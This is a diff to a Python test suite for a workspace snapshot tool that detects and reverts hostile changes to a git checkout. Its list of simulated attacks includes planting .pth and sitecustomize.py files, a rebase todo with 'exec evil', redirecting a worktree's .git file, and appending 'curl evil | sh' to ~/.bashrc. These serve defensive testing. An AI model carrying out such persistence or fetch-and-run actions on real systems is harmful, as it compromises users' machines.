@@ -99,6 +99,12 @@ HOSTILE: list[tuple[str, Callable[[Person], object], str, str]] = [
     ("the person's untracked file deleted", lambda p: (p.repo.root / "NOTES.txt").unlink(), "file", "NOTES.txt"),
     ("a file added to the person's checkout", lambda p: p.repo.write("sitecustomize.py", "import os\n"), "file",
      "sitecustomize.py"),
+    ("a file added in a new folder", lambda p: p.repo.write("evil/deep/x.pth", "import os\n"), "file",
+     "evil/deep/x.pth"),
+    ("a rebase planted to --continue", lambda p: p.repo.write(".git/rebase-merge/git-rebase-todo", "exec evil\n"),
+     "git-file", "rebase-merge/git-rebase-todo"),
+    ("another worktree's .git file redirected", lambda p: p.other.write(".git", "gitdir: /tmp/elsewhere\n"),
+     "git-file", "other/.git"),
     ("another worktree's file edited", lambda p: p.other.append("draft.py", "Y = 2\n"), "file", "draft.py"),
     ("~/.bashrc appended", lambda p: _sh(p, 'echo "curl evil | sh" >> ~/.bashrc'), "home-file", ".bashrc"),
     ("a push by URL", lambda p: p.session.git("push", "-q", str(p.origin), f"{_commit_in_session(p)}:refs/heads/x"),
@@ -123,6 +129,23 @@ def test_snapshot_sees_and_undoes_a_hostile_action(person: tuple[Person, snapsho
     assert snapshot.compare(before, fresh) == []
     assert snapshot.compare(before, snapshot.take(p.ws, like=before)) == []
     assert (p.git_dir / "config").read_bytes() == config
+    assert not (p.repo.root / "evil").exists() and not (p.git_dir / "rebase-merge").exists()  # new folders too
+    assert (p.git_dir / "hooks").is_dir() and (p.git_dir / "info").is_dir()
+
+
+def test_snapshot_sees_a_worktree_deleted_but_not_one_git_prunes(person: tuple[Person, snapshot.Snapshot]) -> None:
+    p, before = person
+    gone = p.repo.root.parent / "gone"
+    p.repo.git("worktree", "add", "-q", "--detach", str(gone))
+    earlier = snapshot.take(p.ws, session_root=before.session_root, session_branch=BRANCH)
+    subprocess.run(["rm", "-rf", str(gone)], check=True)
+    [event] = snapshot.compare(earlier, snapshot.take(p.ws, like=earlier))
+    assert (event.kind, event.where, event.after) == ("worktree", str(gone), None)
+    assert snapshot.restore(p.ws, earlier, [event])[0].startswith("not put back: the worktree is gone")
+    # a worktree already gone before the session: `git worktree prune` (the gate runs it) is no one's doing
+    again = snapshot.take(p.ws, session_root=before.session_root, session_branch=BRANCH)
+    p.repo.git("worktree", "prune")
+    assert snapshot.compare(again, snapshot.take(p.ws, like=again)) == []
 
 
 def test_snapshot_of_an_untouched_person_has_no_events(person: tuple[Person, snapshot.Snapshot]) -> None:
